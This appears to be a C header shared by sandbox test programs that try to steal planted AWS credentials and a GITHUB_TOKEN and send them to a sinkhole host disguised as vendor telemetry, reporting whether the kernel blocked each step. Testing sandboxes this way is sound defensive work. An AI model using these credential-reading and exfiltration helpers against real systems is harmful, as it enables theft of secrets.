/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What the programs share: where the planted secrets are, where the sinkhole is, and how a trick
 * says how it went. It says so on standard output in one line, which the test reads: `performed`,
 * or `blocked: EPERM` with the name of what the kernel answered. It then exits 0, so that the end
 * of the run puts no ceiling on the verdict.
 */
#ifndef TRICK_H
#define TRICK_H

#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define UNUSED __attribute__((unused))
#define TOKEN_FOLDER "/home/user/.aws"
#define TOKEN TOKEN_FOLDER "/credentials"
#define HARMLESS "/etc/hostname"
#define HOST "telemetry.vendor.example"

UNUSED static void performed(void)
{
	puts("performed");
	fflush(stdout);
	_exit(0);
}

/* The kernel refused the step that the trick stands on; errno says how. */
UNUSED static void blocked(void)
{
	printf("blocked: %s\n", strerrorname_np(errno));
	fflush(stdout);
	_exit(0);
}

UNUSED static int is_token(const char *text, size_t size)
{
	return memmem(text, size, "aws_secret_access_key", 21) != NULL;
}

/* End well if the descriptor reads as the token file. */
UNUSED static void read_token(int fd)
{
	char text[4096];
	ssize_t size = read(fd, text, sizeof(text));

	if (size < 0)
		err(1, "read");
	if (!is_token(text, size))
		errx(1, "this is not the token");
	performed();
}

/* The planted value that needs no file to be read. */
UNUSED static const char *secret(void)
{
	const char *value = getenv("GITHUB_TOKEN");

	if (!value)
		errx(1, "no GITHUB_TOKEN");
	return value;
}

/* The sinkhole's address for a name that it answers as any other. */
UNUSED static struct sockaddr_in sink(int port)
{
	struct addrinfo hints = { .ai_family = AF_INET }, *found;
	struct sockaddr_in to;

	if (getaddrinfo(HOST, NULL, &hints, &found))
		errx(1, "%s has no address", HOST);
	to = *(struct sockaddr_in *)found->ai_addr;
	to.sin_port = htons(port);
	freeaddrinfo(found);
	return to;
}

UNUSED static int connected(int port)
{
	struct sockaddr_in to = sink(port);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)))
		err(1, "connect");
	return fd;
}

/* Let the other side have read all before the connection goes. */
UNUSED static void finish(int fd)
{
	char rest[512];

	shutdown(fd, SHUT_WR);
	while (read(fd, rest, sizeof(rest)) > 0)
		;
	close(fd);
}

UNUSED static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT, 0600);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		err(1, "%s", path);
	close(fd);
}

/* New namespaces, with all capabilities in them, as any user may have where users may at all. */
UNUSED static void own_namespaces(int flags)
{
	char map[64];
	int uid = getuid(), gid = getgid();

	if (unshare(CLONE_NEWUSER | flags))
		blocked();
	snprintf(map, sizeof(map), "0 %d 1", uid);
	write_file("/proc/self/uid_map", map);
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %d 1", gid);
	write_file("/proc/self/gid_map", map);
}

/* Append the file's bytes to fd. */
UNUSED static void copy_into(int fd, const char *path)
{
	static char bytes[1 << 16];
	int source = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t size;

	if (source < 0)
		err(1, "%s", path);
	while ((size = read(source, bytes, sizeof(bytes))) > 0)
		if (write(fd, bytes, size) != size)
			err(1, "copy");
	close(source);
}

#endif
